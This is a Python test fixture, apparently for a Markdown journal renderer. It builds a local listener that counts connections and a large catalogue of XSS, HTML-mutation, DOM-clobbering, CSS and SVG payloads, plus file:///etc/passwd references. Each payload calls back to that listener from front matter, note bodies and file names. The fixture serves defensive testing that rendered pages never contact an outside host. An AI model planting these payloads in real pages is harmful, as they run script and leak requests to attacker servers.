"""A journal into which somebody put every trick to reach another machine, and that machine."""

# ruff: noqa: E501 - a trick is easier to see on one line

import selectors
import socket
import threading
from collections.abc import Iterator
from typing import Self


class Attacker:
    """A machine that waits to be asked: it counts connections, whether or not a request follows.

    Use it with `with`. `url` is where it is, `host` the same without a scheme.
    """

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self._end, self._other_end = socket.socketpair()
        self._thread = threading.Thread(target=self._wait, name="attacker")
        self.connections = 0
        self.asked = threading.Event()
        self.host = f"127.0.0.1:{self._server.getsockname()[1]}"
        self.url = f"http://{self.host}"

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._end.close()
        self._thread.join()
        self._other_end.close()
        self._server.close()

    def _wait(self) -> None:
        with selectors.DefaultSelector() as selector:
            selector.register(self._server, selectors.EVENT_READ)
            selector.register(self._other_end, selectors.EVENT_READ)
            while True:
                ready = [key.fileobj for key, _ in selector.select()]
                if self._server in ready:
                    connection, _ = self._server.accept()
                    self.connections += 1
                    self.asked.set()
                    connection.close()
                if self._other_end in ready:
                    return


def tricks(url: str) -> dict[str, str]:
    """What may be pasted into a note, by a word for it. All lead to `url`, which begins with `http:`."""
    bare = url.removeprefix("http:")
    script = f"new Image().src='{url}/run'"
    return {
        "script": f'<script src="{url}/s.js"></script>',
        "inline-script": f"<script>fetch('{url}/x'); {script}</script>",
        "module": f'<script type="module">import "{url}/m.js"</script>',
        "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["' + url + '/p"]}]}</script>',
        "split-script": f"<scr<script>ipt>{script}</scr</script>ipt>",
        "frame": f'<iframe src="{url}/f"></iframe>',
        "frame-with-a-page": f'<iframe srcdoc="<img src={url}/d>"></iframe>',
        "frameset": f'<frameset><frame src="{url}/fs"></frameset>',
        "object": f'<object data="{url}/o"><param name="movie" value="{url}/o"></object>',
        "embed": f'<embed src="{url}/e">',
        "applet": f'<applet archive="{url}/a.jar" code="A"></applet>',
        "portal": f'<portal src="{url}/po"></portal>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={url}/r">',
        "refresh-by-entities": f'<meta http-equiv="re&#102;resh" content="0;&#117;rl={url}/r2">',
        "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        "base": f'<base href="{url}/">',
        "form": f'<form action="{url}/form"><input autofocus onfocus="this.form.submit()"><button>go</button></form>',
        "handlers": f'<img src="x" onerror="{script}"><details open ontoggle="{script}"><summary>s</summary></details>',
        "handler-in-capitals": f'<B OnMouseOver="{script}" ONPOINTERENTER="{script}">over</B>',
        "animation-handler": f'<p style="animation: x" onanimationstart="{script}">anim</p>',
        "javascript-link": f'<a href="javascript:{script}">j</a>',
        "spaced-javascript-link": f'<a href=" jav&#9;ascript&colon;{script}">j2</a>',
        "data-link": f'<a href="data:text/html,<script>{script}</script>">d</a>',
        "pinging-link": f'<a href="#here" ping="{url}/ping">ping</a>',
        "markdown-links": f"[j3](javascript:{script}) [v](vbscript:x) [d2](data:text/html;base64,PHNjcmlwdD4=)"
        f" [f](file:///etc/passwd) [b](blob:{url}/b) [s](view-source:{url})",
        "image": f'<img src="{url}/i.png">',
        "markdown-image": f"![remote]({url}/mi.png) ![rel]({bare}/mr.png) ![ref][pic]\n\n[pic]: {url}/ref.png",
        "image-with-backslashes": f'<img src="\\\\{bare.strip("/")}\\i.png">',
        "srcset": f'<img src="x" srcset="{url}/1x.png 1x, {url}/2x.png 2x">',
        "picture": f'<picture><source srcset="{url}/p.webp"><img src="{url}/p.png"></picture>',
        "low-source": f'<img lowsrc="{url}/low" dynsrc="{url}/dyn"><input type="image" src="{url}/in.png">',
        "video": f'<video autoplay src="{url}/v.mp4" poster="{url}/v.png"><track src="{url}/v.vtt" default></video>',
        "audio": f'<audio autoplay><source src="{url}/a.mp3"></audio><bgsound src="{url}/bg.mid">',
        "background": f'<table background="{url}/bg.png"><tr><td background="{url}/td.png">cell</table>',
        "style": f'<p style="background: url({url}/st.png)">st</p>',
        "escaped-style": f'<p style="background: \\75rl({url}/st2.png)">st2</p>',
        "style-sheet": f'<style>@import "{url}/i.css"; body {{ background: url({url}/b.png) }}</style>',
        "font": f"<style>@font-face {{ font-family: X; src: url({url}/f.woff) }} p {{ font-family: X }}</style>",
        "linked-sheet": f'<link rel="stylesheet" href="{url}/l.css">',
        "preconnect": f'<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{bare}">',
        "prefetch": f'<link rel="prefetch" href="{url}/pf"><link rel="prerender" href="{url}/pr">',
        "preload": f'<link rel="preload" as="image" imagesrcset="{url}/pl.png 1x" href="{url}/pl.png">',
        "module-preload": f'<link rel="modulepreload" href="{url}/mp.js">',
        "icon-and-manifest": f'<link rel="icon" href="{url}/ic"><link rel="manifest" href="{url}/mf">',
        "svg": f'<svg onload="{script}"><script href="{url}/sv.js"></script><image href="{url}/si.png"/></svg>',
        "svg-use": f'<svg><use xlink:href="{url}/u.svg#a"/><feImage href="{url}/fe.png"/></svg>',
        "svg-page": f'<svg><foreignObject><iframe src="{url}/fo"></iframe></foreignObject></svg>',
        "svg-animation": f'<svg><a><set attributeName="href" to="javascript:{script}"/><text>t</text></a></svg>',
        "math": f'<math><maction actiontype="statusline" xlink:href="{url}/ma">m</maction><mtext></math>',
        "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
        f' onerror={script}&gt;">',
        "mutation-in-noscript": f'<noscript><p title="</noscript><img src={url}/ns.png onerror={script}>"></noscript>',
        "mutation-in-svg": f'<svg></p><style><a id="</style><img src={url}/ms.png onerror={script}>">',
        "template": f'<template shadowrootmode="open"><img src="{url}/t.png"></template>',
        "textarea": f"<textarea><img src={url}/ta.png></textarea><title></title><xmp><img src={url}/xmp.png></xmp>",
        "comment": f'<!--><img src="{url}/c.png">--> <!-- --!><img src={url}/c2.png> -->',
        "conditional-comment": f"<!--[if IE]><img src={url}/ie.png><![endif]--><![CDATA[<img src={url}/cd.png>]]>",
        "half-a-tag": f'<img src="{url}/half.png" onerror="{script}" x="',
        "body": f'<html><body background="{url}/body.png" onload="{script}"><p>body</p>',
        "clobbering": '<form name="body"></form><img name="currentScript" src="x"><a id="__config"></a>'
        '<a id="__search"></a><a id="__md_scope"></a><p id="content" class="md-search js-x" data-md-component="search">'
        '<input name="parentNode"></p><form id="iiv"><input id="hand" name="hand"></form>',
        "attribute-list": f"![x](x.png){{: src={url}/al.png onerror={script.replace(' ', '/')} }}\n\n"
        f"para{{: style='background:url({url}/al2.png)' onclick=x }}",
        "attribute-list-of-a-heading": f"### head {{: #__search onmouseover={script.replace(' ', '/')} }}",
        "mermaid": f'```mermaid\ngraph TD; A-->B; click A "{url}/mm"\n```\n<div class="mermaid">graph TD; A-->B</div>',
        "code": f'```html\n<img src="{url}/shown-as-code.png">\n```',
        "footnote": f'said[^x"><img src={url}/fn.png>]\n\n[^x"><img src={url}/fn.png>]: note ![f]({url}/fi.png)',
        "snippet": '--8<-- "/etc/passwd"',
        "math-and-emoji": f":material-home: $$x$$ [=50% \"{url}\"] :smile:{{: style='background:url({url}/e.png)' }}",
        "magic-link": f"{url}/bare <{url}/angle> www.example.org",
        "task": f'- [ ] promise <img src="{url}/task.png"> (by 2026-05-01)',
        "theme": f'#theme<img/src={url}/th.png> #theme"onclick={script}',
        "wikilink": f'[[Ada"><img src={url}/wl.png>]] [[javascript:alert(1)]]',
        "abbreviation": f'HTML\n\n*[HTML]: "><img src={url}/ab.png>',
        "admonition": f'!!! note "<img src={url}/ad.png>"\n    <script src={url}/ad.js></script>',
        "drawing-of-ones-own": "![drawing](../images/bad.svg) [drawing](../images/bad.svg) [page](../images/bad.html)",
    }


def hostile_journal(url: str) -> dict[str, str | bytes]:
    """The files of the journal by path below `journal/`: each trick in each place where a person writes."""
    named = tricks(url)
    markup = f'<img src="{url}/n.png" onerror="new Image().src=\'{url}/n\'">'
    inline = f"{markup}<script src={url}/n.js></script>\" ' {{{{ 7 * 7 }}}} </title></textarea>"
    everything = "\n\n".join(named.values())
    files: dict[str, str | bytes] = {
        "index.md": everything,
        "me.md": f"---\nname: {_quoted(inline)}\nemail: {_quoted(inline)}\ncrossroads: {_quoted(inline)}\n---\n"
        f"{everything}\n\n## News\n- 2026-03-01 {inline}\n",
        "contacts/ada.md": _contact(inline, everything),
        "questions/start.md": f"---\nask: {_quoted('How? ' + inline)}\ntopic: {_quoted(inline)}\n"
        f"formerly: [{{ask: {_quoted('Before ' + inline)}, until: 2026-01-01}}]\n---\n{everything}\n",
        "interviews/broken.md": f"---\ncontact: [broken\ndate: 2026-03-01\n---\n{everything}\n",
        "questions/same-path.md": "---\nask: Would you do it again?\norder: 2\n---\n",
        "directions/sea.md": f"---\nname: {_quoted('Sea ' + inline)}\npeople: Ada\nfields: [{_quoted(inline)}]\n"
        f"tags: [{_quoted(inline)}]\nverdicts: [{{verdict: try, why: {_quoted(inline)}}}]\nas_of: 2026-02-01\n"
        "contradicts: [talk-script#start, talk-frame#start]\n---\n[[talk-script#start]], [[talk-frame#same-path]].\n\n"
        f"{everything}\n\n## What I still need to know\n{everything}\n",
        f"interviews/{_NAME}.md": f"---\ncontact: Grace\ndate: 2026-03-04\n{markup}: {markup}\n---\n{markup}\n",
        "images/bad.svg": _svg(url),
        "images/bad.html": named["script"],
    }
    files |= dict(_talks(named, inline))
    return files


_NAME = "2026-03-04-<img src=x onerror=alert(1)>&quot;'"


def _talks(named: dict[str, str], inline: str) -> Iterator[tuple[str, str]]:
    """A talk for each trick, which stands in an answer of the front matter, in one of the body, and in the notes."""
    for number, (name, trick) in enumerate(named.items()):
        front = "\n".join(f"    {line}" for line in trick.split("\n"))
        yield (
            f"interviews/talk-{name}.md",
            (
                f"---\ncontact: {_quoted('Ada ' + inline if number else 'Ada')}\n"
                f"date: 2026-02-{number % 28 + 1:02d}\nhelpfulness: {number % 5 + 1}\n"
                f"role: {_quoted(inline)}\norganization: {_quoted(inline)}\nfield: {_quoted(inline)}\n"
                f"channel: {_quoted(inline)}\nshift: {_quoted(inline)}\n"
                f"introductions: [{_quoted('Intro ' + inline)}]\nhelp: [{_quoted(inline)}]\n"
                f"tags: [{_quoted(inline)}]\nanswers:\n  same-path: |\n{front}\n---\n"
                f"{trick}\n\n## start\n**gist {trick.splitlines()[0]}** {trick}\n"
            ),
        )


def _contact(inline: str, everything: str) -> str:
    keys = ("role", "organization", "field", "know", "respect", "introduced_by", "email", "phone")
    said = "".join(f"{key}: {_quoted(inline)}\n" for key in keys)
    return (
        f"---\nname: {_quoted('Ada ' + inline)}\naliases: [Ada]\n{said}tags: [{_quoted(inline)}]\n---\n"
        f"{everything}\n\n## Log\n- 2026-02-10 asked by e-mail: {inline}\n"
        f"- 2026-03-10 scheduled 2026-05-02 15:00 by {inline}\n- 2026-03-11 note: {inline}\n"
    )


def _svg(url: str) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9">'
        f"<script>new Image().src='{url}/svg'</script><image x:href='{url}/svg.png' width='9' height='9'/></svg>"
    ).encode()


def _quoted(text: str) -> str:
    """A text as a YAML scalar."""
    return "'" + text.replace("'", "''") + "'"
